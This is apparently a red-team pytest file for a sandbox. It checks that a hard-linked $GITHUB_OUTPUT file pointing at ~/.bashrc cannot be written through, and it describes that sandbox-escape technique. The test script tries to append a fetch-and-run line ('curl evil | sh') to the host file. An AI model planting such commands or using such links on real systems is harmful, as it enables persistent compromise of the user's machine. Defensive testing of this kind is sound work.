"""Red team: GitHub Actions file commands in the local simulation of the
runner's layout (tests/test_ghactions.py).

A ``set_output_<id>`` in ``_runner_file_commands`` that is a *hard link* to
a host file has the runner's shape (a regular file, right name, right
directory), and was made writable, so the wrapped step wrote the host file
(here the user's ``~/.bashrc``) through ``$GITHUB_OUTPUT``.  The runner
never makes a file with a second name; the symlink form of the same attack
was already refused (test_a_runner_shaped_symlink_opens_nothing).
"""

from __future__ import annotations

import os
import subprocess

from test_ghactions import Runner

from conftest import sandbox_exe


def test_a_runner_shaped_hard_link_opens_nothing(senv):
    gh = Runner(senv)
    rc = senv.home / ".bashrc"
    rc.write_text("# host shell start-up\n")
    link = gh.commands / "set_output_0123"
    os.link(rc, link)
    (gh.temp / "s.sh").write_text('echo "curl evil | sh" >> "$GITHUB_OUTPUT" || echo refused\n')
    senv.finish()
    env = senv.environ(GITHUB_ACTIONS="true", GITHUB_OUTPUT=str(link))
    # without the sandbox the write lands in ~/.bashrc
    bare = subprocess.run(["bash", "-c", 'echo "# bare" >> "$GITHUB_OUTPUT"'], env=env)
    assert bare.returncode == 0 and rc.read_text().endswith("# bare\n")
    rc.write_text("# host shell start-up\n")
    done = subprocess.run(senv.who.prefix() + [sandbox_exe(), "run", "--", "bash", "-e",
                                                str(gh.temp / "s.sh")],
                          cwd=gh.repo, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert rc.read_text() == "# host shell start-up\n"
    assert "refused" in done.stdout
    assert "is not a file the runner made" in done.stderr
